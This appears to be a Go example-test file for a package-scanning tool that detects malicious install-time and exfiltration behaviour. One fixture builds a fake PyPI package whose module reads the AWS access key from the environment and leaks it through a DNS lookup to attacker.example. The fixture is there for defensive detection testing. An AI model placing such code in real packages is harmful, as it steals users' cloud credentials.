package content_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"os"
	"strings"

	"github.com/chaingate/chaingate/internal/contentdata"
	"github.com/chaingate/chaingate/risk/content"
	"github.com/chaingate/chaingate/risk/model"
)

// Scan a PyPI sdist whose module sends an AWS key out in a DNS name: the
// finding names its rule, category, file, line, code and flow.
func ExampleScanPackageArchive_findings() {
	sdist, _ := contentdata.TarGz(map[string][]byte{
		"dnskey-0.1/PKG-INFO": []byte("Name: dnskey\nVersion: 0.1\n"),
		"dnskey-0.1/dnskey/__init__.py": []byte("import os, socket\n" +
			"key = os.getenv('AWS_ACCESS_KEY_ID')\n" +
			"socket.gethostbyname(f\"{key}.attacker.example\")\n"),
	})
	rep, err := content.ScanPackageArchive(context.Background(), "dnskey-0.1.tar.gz", bytes.NewReader(sdist))
	if err != nil {
		fmt.Println(err)
		return
	}
	for _, f := range rep.Findings {
		fmt.Printf("%s [%s] %s:%d %s\n", f.Rule, f.Category, f.File, f.Line, f.Span)
		fmt.Println(strings.Join(f.Flow, " → "))
	}
	fmt.Println("malicious:", rep.Malicious)
	// Output:
	// dns-exfiltration [network.dns-exfil] dnskey/__init__.py:3 socket.gethostbyname(f"{key}.attacker.example")
	// the environment variable AWS_ACCESS_KEY_ID (line 2) → socket.gethostbyname (line 3)
	// malicious: true
}

// The built-in content model: its features are the content rules, and
// its score explains itself rule by rule.
func ExampleBuiltinModel() {
	m, err := content.BuiltinModel()
	if err != nil {
		fmt.Println(err)
		return
	}
	x := make([]float64, len(content.FeatureNames()))
	for i, n := range content.FeatureNames() {
		if n == "install-script" || n == "env-exfiltration" {
			x[i] = 1
		}
	}
	s, err := m.Score(x)
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(m.Info().ID, s.Flagged, s.Contributions[0].Feature)
	fmt.Println(content.Category("env-exfiltration"))
	// Output:
	// content-logistic true env-exfiltration
	// network.exfiltration
}

// Load a content model artefact (here the shipped one); an artefact made
// for other features is refused.
func ExampleLoadModel() {
	b, err := os.ReadFile("models/content-logistic.json")
	if err != nil {
		fmt.Println(err)
		return
	}
	m, err := content.LoadModel(b)
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(m.Info().ID, m.Info().FeatureSchema)
	_, err = content.LoadModel(bytes.Replace(b, []byte(`"env-exfiltration"`), []byte(`"renamed"`), 1))
	fmt.Println(errors.Is(err, model.ErrSchemaMismatch))
	// Output:
	// content-logistic chaingate.risk.content-features/v1
	// true
}

// Scan an npm tarball for install-time behaviour.
func ExampleScanPackageArchive() {
	f, err := os.Open("../testdata/signals/npm/bufferutil-4.0.9.tgz")
	if err != nil {
		fmt.Println(err)
		return
	}
	defer f.Close()
	rep, err := content.ScanPackageArchive(context.Background(), "bufferutil-4.0.9.tgz", f)
	if err != nil {
		fmt.Println(err)
		return
	}
	fmt.Println(rep.Name, rep.Version, rep.Malicious)
	fmt.Println(rep.InstallHooks)
	// Output:
	// bufferutil 4.0.9 false
	// [scripts.install: node-gyp-build]
}
